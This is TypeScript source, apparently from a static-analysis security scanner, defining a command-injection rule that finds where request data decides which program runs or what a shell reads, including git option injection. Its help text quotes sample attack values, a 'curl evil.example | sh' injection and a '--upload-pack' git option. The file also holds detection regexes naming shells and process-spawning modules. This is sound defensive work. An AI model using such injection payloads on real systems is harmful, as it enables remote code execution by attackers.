import type { Node } from '../syntax';
import { nameOf } from '../flow/calls';
import { callNamed, flowRule, isFrom, type Sink } from './flowRule';
import { originOf } from './imports';
import type { ParsedFile } from './parsedFile';
import { constantOf } from './pieces';
import { question } from './shellCommand';

const shells = /^(?:.*[\\/])?(?:ba|z|k|da)?sh$|^cmd(?:\.exe)?$|^powershell(?:\.exe)?$|^pwsh$/i;
const modules =
  /^(child_process|child-process-promise|mz\/child_process|cross-spawn|cross-spawn-async|execa|foreground-child|shelljs|exec|execSync|exec-async|node-cmd|ssh2|node-ssh|simple-ssh|remote-exec|async-exec|teen_process|spawn-sync|exec-sh|shell-exec|promisify-child-process|win-spawn|gulp-exec|zx|npm-run|which-command|sudo-prompt|node-pty|pty\.js)$/;
const receivers =
  /(^|\.)(child_process|childProcess|cp|child|proc|shell|shelljs|sh|execa|cmd|ssh|conn|connection|sshClient|client|stream)$/;

/** Programs, and commands of other modules, that an outsider decides on. */
export const commandInjection = flowRule({
  id: 'command-injection',
  title: 'A request decides which command runs',
  cwe: ['CWE-78', 'CWE-77', 'CWE-88'],
  languages: ['javascript'],
  severity: 'critical',
  precision: 'high',
  help: {
    why: 'Whoever decides on a program, or on the text that a shell reads, decides what the machine does.',
    attack:
      'A value such as `x; curl evil.example | sh`, or `--upload-pack=touch /tmp/p` for git, runs what the attacker likes.',
    fix: 'Fix the program, pass values as separate arguments without a shell, and put `--` before them.',
    sources: [
      'https://cwe.mitre.org/data/definitions/78.html',
      'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
    ],
  },
  topic: /command.?(inj|exec)|\bos.?command|child.?process|\bshell/i,
  words:
    'exec execSync spawn spawnSync execFile execFileSync fork execa execaSync execaCommand execaCommandSync command commandSync shell shellSync sync execCommand execAsync get run $'.split(
      ' ',
    ),
  needs:
    'child_process childProcess child cp mz shelljs shell execa spawn cross exec ssh2 ssh SSH Client zx cmd pty proc sh execAsync'.split(
      ' ',
    ),
  sinks: sinksAt,
  question: {
    ...question,
    kinds: new Set(['remote', 'page', 'local', 'library', 'stored', 'response'] as const),
  },
});

function sinksAt(name: Node, file: ParsedFile): readonly Sink[] {
  const site = callNamed(name);
  if (!site) return [];
  const { call } = site;
  const origin = originOf(call.callee, file);
  const called = nameOf(call);
  // The rule for commands in a shell reports these.
  if (origin?.module === 'child_process' && /^exec(Sync)?$/.test(origin.name)) return [];
  if (!isFrom(site, file, modules, receivers)) return [];
  const [program, list] = call.args;
  if (!program) return [];
  if (
    /^(get|run|command|sync|client)$/.test(called) &&
    !origin &&
    !/cmd|shell|exec/.test(call.receiver?.text ?? '')
  )
    return [];
  const fixed = constantOf(program, file);
  if (fixed === undefined)
    return [{ value: program, does: 'decides which command runs' }, ...shellArguments(call.args)];
  if (!list) return [];
  if (shells.test(fixed) || usesShell(call.args))
    return [{ value: list, path: ['*'], does: 'is read by a shell' }];
  return /^(git|hg|svn)$/.test(fixed) ? optionSinks(list) : [];
}

function shellArguments(args: readonly Node[]): Sink[] {
  const [, list] = args;
  return list && usesShell(args) && list.type !== 'object'
    ? [{ value: list, path: ['*'], does: 'is read by a shell' }]
    : [];
}

function usesShell(args: readonly Node[]): boolean {
  const options = args.at(-1);
  return (
    args
      .slice(1)
      .some(
        (one) => one.type === 'object' && /\bshell\s*:\s*(?!false|undefined|null)/.test(one.text),
      ) && options !== undefined
  );
}

/** git takes a value that begins with a dash for an option, some of which run programs. */
function optionSinks(list: Node): Sink[] {
  if (list.type !== 'array') return [];
  const items = list.namedChildren;
  const separator = items.findIndex(({ text }) => /^['"`]--['"`]$/.test(text));
  const risky = items.some(({ text }) =>
    /^['"`](clone|fetch|pull|ls-remote|archive|grep|diff|log|update|merge|incoming)['"`]$/.test(
      text,
    ),
  );
  if (!risky) return [];
  return items
    .slice(0, separator < 0 ? undefined : separator)
    .filter(({ type }) => type !== 'string')
    .map((value) => ({ value, does: 'may be taken for an option of the program' }));
}
